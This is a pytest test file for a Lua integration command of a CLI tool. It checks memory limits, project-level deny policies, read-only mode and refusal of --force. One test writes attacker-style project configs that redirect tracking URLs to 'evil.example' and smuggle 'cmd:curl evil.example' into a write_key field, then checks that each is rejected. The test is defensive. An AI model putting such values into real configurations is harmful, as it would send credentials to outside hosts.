"""What the command takes from the files of the user and of a project."""

from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import Finished

from kosmo_lua.emulator import Emulator

Run = Callable[..., Finished]

TRACK = 'return app.integrations.segment.track({event = "E", userId = "u"}).success'


class TestLimits:
    """[limits] in the files."""

    ALLOC = 'return #("x"):rep(5e6)'

    @pytest.mark.parametrize(
        ("user", "project", "flag", "fits"),
        [
            ("memory = 1000000", "", "", False),
            ("memory = 1000000", "", "--memory-limit=33554432", True),
            ("", "memory = 1000000", "", False),
            ("", "memory = 1000000", "--memory-limit=33554432", False),
            ("memory = 1000000", "memory = 99000000", "", False),
            ("", "memory = 99000000", "", True),
        ],
    )
    def test_flag_wins_over_the_user_and_a_project_only_lowers(  # noqa: PLR0917  # the case
        self,
        kosmo: Run,
        home: Path,
        tmp_path: Path,
        user: str,
        project: str,
        flag: str,
        fits: bool,  # noqa: FBT001  # the case
    ) -> None:
        """DESIGN: flag, user, default; a project may only lower limits."""
        (home / "config.toml").write_text(f"[limits]\n{user}")
        (tmp_path / "kosmo.toml").write_text(f"[limits]\n{project}")
        options = [flag] if flag else []
        done = kosmo("integrations:lua", "--json", *options, "--eval", self.ALLOC)
        assert (done.status, done.json()["success"]) == ((0, True) if fits else (124, False))

    @pytest.mark.parametrize("text", ["[limits]\nmemory = 1.5", "[limits]\ncpu = -1", "[limts]"])
    def test_mistake_ends_the_command_with_its_file(
        self, kosmo: Run, home: Path, text: str
    ) -> None:
        """Ours: nothing runs under limits that nobody meant."""
        (home / "config.toml").write_text(text)
        done = kosmo("integrations:lua", "--eval", "print(1)")
        assert (done.status, done.stdout) == (78, "")
        assert done.stderr.startswith(f"error: {home / 'config.toml'}: ")


class TestProject:
    """kosmo.toml, found as a clone brings it."""

    @pytest.mark.parametrize("depth", ["", "a", "a/b"])
    def test_file_counts_below_its_folder(
        self,
        kosmo: Run,
        tmp_path: Path,
        kosmo_emulator: Emulator,
        depth: str,
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        """The card: a project may tighten: here it denies what the environment allows."""
        (tmp_path / "kosmo.toml").write_text('[policy]\n"segment.track_event" = "deny"')
        (tmp_path / "a" / "b").mkdir(parents=True)
        (tmp_path / "w.lua").write_text(TRACK)
        monkeypatch.chdir(tmp_path / depth)
        done = kosmo("integrations:lua", "--eval", TRACK, "--json")
        assert (done.status, done.json()["error_info"]["code"]) == (77, "denied")
        assert kosmo_emulator.events() == []

    def test_file_above_the_repository_does_not_count(
        self, kosmo: Run, tmp_path: Path, kosmo_emulator: Emulator
    ) -> None:
        """Ours: a project ends at its repository."""
        (tmp_path.parent / "kosmo.toml").write_text('[policy]\nwrite = "deny"')
        (tmp_path / ".git").mkdir()
        assert kosmo("integrations:lua", "--eval", TRACK).stdout == "true\n"
        assert len(kosmo_emulator.events()) == 1
        (tmp_path.parent / "kosmo.toml").unlink()

    def test_project_cannot_redirect_or_grant(
        self, kosmo: Run, tmp_path: Path, kosmo_emulator: Emulator
    ) -> None:
        """The card, as an attacker: every way to lead the keys elsewhere ends the command."""
        for text in (
            "[accounts.segment.default]\ntracking_url = 'https://evil.example'",
            "[credentials.segment.default]\nwrite_key = 'cmd:curl evil.example'",
            "[segment.default]\ntracking_url = 'https://evil.example'",
            "[integrations.segment]\nurl = 'https://evil.example'",
            "allow_force = true",
        ):
            (tmp_path / "kosmo.toml").write_text(text)
            done = kosmo("integrations:lua", "--eval", TRACK, "--force", "--json")
            assert (done.status, done.json()["error_info"]["code"]) == (78, "config_error")
        assert kosmo_emulator.events() == []


class TestReadOnly:
    """--read-only."""

    def test_every_write_is_denied(self, kosmo: Run, kosmo_emulator: Emulator) -> None:
        """The card: whatever the config says, also with --force."""
        for force in ([], ["--force"]):
            done = kosmo("integrations:lua", "--read-only", *force, "--json", "--eval", TRACK)
            assert (done.status, done.json()["error_info"]["code"]) == (77, "denied")
        assert kosmo_emulator.events() == []
        read = "return app.integrations.segment.get_current_user().slug"
        assert kosmo("integrations:lua", "--read-only", "--eval", read).stdout == "my-workspace\n"


class TestForceRefused:
    """allow_force = false."""

    def test_force_is_refused_before_anything_runs(self, kosmo: Run, home: Path) -> None:
        """The card: --force is itself refusable."""
        (home / "config.toml").write_text("allow_force = false")
        done = kosmo("integrations:lua", "--force", "--json", "--eval", "print(1)")
        assert (done.status, done.json()["error_info"]["code"]) == (77, "denied")
        assert done.json()["output"] == ""


def test_failed_script_is_annotated_for_github(kosmo: Run, tmp_path: Path) -> None:
    """The card: `::error file=workflow.lua,line=12::` on stderr."""
    (tmp_path / "workflow.lua").write_text("local x\nerror('50% of\\nit')")
    done = kosmo("integrations:lua", "workflow.lua", "--json", env={"GITHUB_ACTIONS": "true"})
    assert done.stderr == "::error file=workflow.lua,line=2::workflow.lua:2: 50%25 of%0Ait\n"
    assert done.json()["success"] is False
